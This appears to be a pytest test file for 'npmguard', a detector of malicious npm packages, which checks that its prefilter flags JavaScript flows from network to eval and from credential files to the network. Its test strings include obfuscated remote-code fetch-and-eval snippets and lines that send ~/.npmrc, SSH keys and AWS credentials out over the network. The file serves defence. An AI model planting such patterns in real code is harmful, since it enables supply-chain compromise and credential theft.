from __future__ import annotations

from dataclasses import replace
from functools import cache
from pathlib import Path
from types import MappingProxyType

import pytest

from npmguard.detect.clause import Clause, ClauseKind
from npmguard.detect.prefilter import Prefilter
from npmguard.detect.rule import Example, Match, Ruleset, Scope, Signal, load_ruleset
from npmguard.javascript.flow_marks import sink_marks, source_marks
from npmguard.javascript.flow_words import Sink, Source, flow_name, flow_of
from tests.javascript_flows import flows

RULES = Path(__file__).parents[3] / "docs" / "writing-rules.md"


@pytest.mark.parametrize("source", Source)
@pytest.mark.parametrize("sink", Sink)
def test_a_flow_is_named_by_both_its_ends(source: Source, sink: Sink) -> None:
    assert flow_of(flow_name(source, sink)) == (source, sink)


def test_every_end_has_marks() -> None:
    for marks in [*map(source_marks, set(Source) - {Source.EMBEDDED}), *map(sink_marks, Sink)]:
        assert marks
        assert all(group and all(len(mark.text) > 1 for mark in group) for group in marks)
    assert source_marks(Source.EMBEDDED) == ()


def test_the_guide_tells_of_every_word() -> None:
    rows = [line.split("`")[1] for line in RULES.read_text("utf-8").splitlines() if line.startswith("| `")]
    assert set(Source) <= set(rows)
    assert set(Sink) <= set(rows)


EVALUATES = [
    "eval(await (await fetch(u)).text())",
    "(0,eval)(await (await fetch(u)).text())",
    "globalThis['ev' + 'al'](await (await fetch(u)).text())",
    "globalThis['\\x65val'](await (await fetch(u)).text())",
    "new Function(await (await fetch(u)).text())()",
    "Function('a', await (await fetch(u)).text())()",
    "[].constructor.constructor(await (await fetch(u)).text())()",
    "Object.getPrototypeOf(async function () {}).constructor(await (await fetch(u)).text())()",
    "require('vm').runInThisContext(await (await fetch(u)).text())",
    "require('v' + 'm').runInThisContext(await (await fetch(u)).text())",
    "import vm from 'node:vm'; vm.runInThisContext(await (await fetch(u)).text())",
    "module._compile(await (await fetch(u)).text(), '')",
    "import('data:text/javascript,' + await (await fetch(u)).text())",
    "const e = eval; fetch(u).then((r) => r.text()).then((t) => e(t))",
    "require('https').get(u, (r) => { let b = ''; r.on('data', (c) => b += c); r.on('end', () => eval(b)) })",
    "require('ht' + 'tps').get(u, (r) => r.on('data', (c) => eval(c)))",
    "import got from 'got'; eval((await got(u)).body)",
    "const w = new WebSocket(u); w.onmessage = ({data}) => eval(data)",
]


@pytest.mark.parametrize("code", EVALUATES)
def test_marks_are_in_whatever_the_analysis_finds(code: str) -> None:
    assert "network>evaluate" in flows(code)
    assert "a.js" in _prefilter_of("network", "evaluate").select([("a.js", code.encode())])


@pytest.mark.parametrize(
    "code",
    [
        "const root = Function('return this')(); fetch(u)",
        "setTimeout(() => fetch(u), 10); const k = this.constructor; import('./a.js')",
        "emitter.on('request', () => {}); const f = async () => import('x')",
        "evaluate(fetch(u)); const names = ['vm', 'net']",
    ],
)
def test_everyday_words_are_no_marks(code: str) -> None:
    assert _prefilter_of("network", "evaluate").select([("a.js", code.encode())]) == frozenset()


EXAMPLES = ((Example("a", {}), Example("b", {})),) * 2


@cache
def _prefilter_of(source: str, sink: str) -> Prefilter:
    """The prefilter of one rule, which asks for one flow."""
    clause = Clause(ClauseKind.FLOW, (flow_name(Source(source), Sink(sink)),))
    signal = Signal("s", "s.yml", "t", "d", Match((clause,)), *EXAMPLES)
    shipped = load_ruleset().rules[0]
    rule = replace(shipped, id="r", scope=Scope.FILE, match=Match(("s",)))
    return Prefilter(Ruleset((rule,), MappingProxyType({"s": signal}), ""))


@pytest.mark.parametrize(
    ("code", "parsed"),
    [
        ("fetch(url, {body: fs.readFileSync(home + '/.npmrc')})", True),
        ("require('https').request(url).end(fs.readFileSync(path.join(home, '.ssh', name)))", True),
        ("require('node:https').request(url).end(fs.readFileSync(home + '/.aws/credentials'))", True),
        ("import axios from 'axios'; axios.post(url, await readFile(`${home}/.npmrc`))", True),
        ("fetch(url, {body: fs.readFileSync(home + '/.np' + 'mrc')})", True),
        ("self['fet' + 'ch'](url, {body: fs.readFileSync(home + '/.npmrc')})", True),
        ("fetch(url, {body: fs.readFileSync(home + '/settings')})", False),
        ("settings.load(fs.readFileSync(home + '/.npmrc'))", False),
        ("// see https://docs.example for .npmrc", False),
    ],
)
def test_a_file_with_marks_of_both_ends_is_parsed(code: str, *, parsed: bool) -> None:
    selected = _prefilter_of("credential-file", "network").select([("a.js", code.encode())])
    assert ("a.js" in selected) is parsed


COLLECT = "exports.read = () => fs.readFileSync(home + '/.npmrc');"
SEND = "exports.send = (data) => fetch(url, {body: data});"
JOIN = "require('./send').send(require('./collect').read())"


@pytest.mark.parametrize(
    ("files", "parsed"),
    [
        ({"index.js": JOIN, "collect.js": COLLECT, "send.js": SEND, "other.js": "1"}, "collect index send"),
        ({"index.js": COLLECT + "require('./send').send(exports.read())", "send.js": SEND}, "index send"),
        ({"index.js": COLLECT, "send.js": SEND + "exports.send(require('.').read())"}, "index send"),
        ({"index.js": COLLECT, "send.js": SEND}, ""),
        ({"index.js": JOIN, "collect.js": COLLECT.replace(".npmrc", ".list"), "send.js": SEND}, ""),
        (
            {"index.js": JOIN, "collect.js": "export * from './more'", "more.js": COLLECT, "send.js": SEND},
            "collect index more send",
        ),
    ],
)
def test_files_that_bring_both_ends_together_are_parsed(files: dict[str, str], parsed: str) -> None:
    contents = [(path, code.encode()) for path, code in files.items()]
    selected = _prefilter_of("credential-file", "network").select(contents)
    assert sorted(selected) == [f"{name}.js" for name in parsed.split()]
